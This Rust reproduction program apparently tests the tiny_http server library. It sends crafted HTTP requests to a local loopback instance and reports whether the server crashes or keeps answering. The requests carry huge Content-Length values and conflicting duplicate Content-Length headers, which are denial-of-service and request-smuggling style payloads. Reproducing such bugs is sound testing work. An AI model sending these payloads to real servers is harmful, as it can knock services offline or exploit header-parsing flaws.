//! Sends single requests to a tiny_http server whose handler answers 404 without reading the body, and
//! tells what became of the server. Each attack meets a fresh server in a process of its own.
//!
//! `cargo run --manifest-path tests/repro/tiny_http/Cargo.toml`

use std::io::{BufRead, BufReader, Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::process::{Child, Command, Stdio};
use std::thread::sleep;
use std::time::Duration;

const ATTACKS: [(&str, &str); 4] = [
    ("nothing special", "GET / HTTP/1.1\r\nHost: box\r\n\r\n"),
    ("Content-Length: 100000000000", "POST / HTTP/1.1\r\nHost: box\r\nContent-Length: 100000000000\r\n\r\n"),
    (
        "Content-Length: 18446744073709551615",
        "POST / HTTP/1.1\r\nHost: box\r\nContent-Length: 18446744073709551615\r\n\r\n",
    ),
    (
        "two different Content-Length",
        "POST / HTTP/1.1\r\nHost: box\r\nContent-Length: 5\r\nContent-Length: 50\r\n\r\nhello",
    ),
];

fn main() {
    if std::env::args().nth(1).as_deref() == Some("serve") {
        return serve();
    }
    for (name, request) in ATTACKS {
        println!("== {name}");
        let (mut server, address) = start();
        println!("answer: {}", ask(address, request).lines().next().unwrap_or("none"));
        sleep(Duration::from_millis(500));
        match server.try_wait().expect("asking for the server's state") {
            Some(status) => println!("the server is gone: {status}"),
            None => println!("the server runs; next answer: {}", next_answer(address)),
        }
        let _ = server.kill();
        let _ = server.wait();
    }
}

fn serve() {
    let server = tiny_http::Server::http("127.0.0.1:0").expect("listening on loopback");
    println!("{}", server.server_addr());
    for request in server.incoming_requests() {
        let _ = request.respond(tiny_http::Response::from_string("nothing here").with_status_code(404));
    }
}

fn start() -> (Child, SocketAddr) {
    let program = std::env::current_exe().expect("this program has a path");
    let mut server = Command::new(program)
        .arg("serve")
        .env("RUST_BACKTRACE", "0")
        .stdout(Stdio::piped())
        .spawn()
        .expect("starting the server");
    let mut line = String::new();
    let mut out = BufReader::new(server.stdout.take().expect("its output is piped"));
    out.read_line(&mut line).expect("reading its address");
    (server, line.trim().parse().expect("an address"))
}

fn ask(address: SocketAddr, request: &str) -> String {
    let Ok(mut stream) = TcpStream::connect(address) else { return String::new() };
    let _ = stream.set_read_timeout(Some(Duration::from_secs(2)));
    let _ = stream.write_all(request.as_bytes());
    let mut answer = [0; 1024];
    let count = stream.read(&mut answer).unwrap_or(0);
    String::from_utf8_lossy(&answer[..count]).into_owned()
}

fn next_answer(address: SocketAddr) -> String {
    let answer = ask(address, "GET / HTTP/1.1\r\nHost: box\r\n\r\n");
    answer.lines().next().unwrap_or("none").to_owned()
}
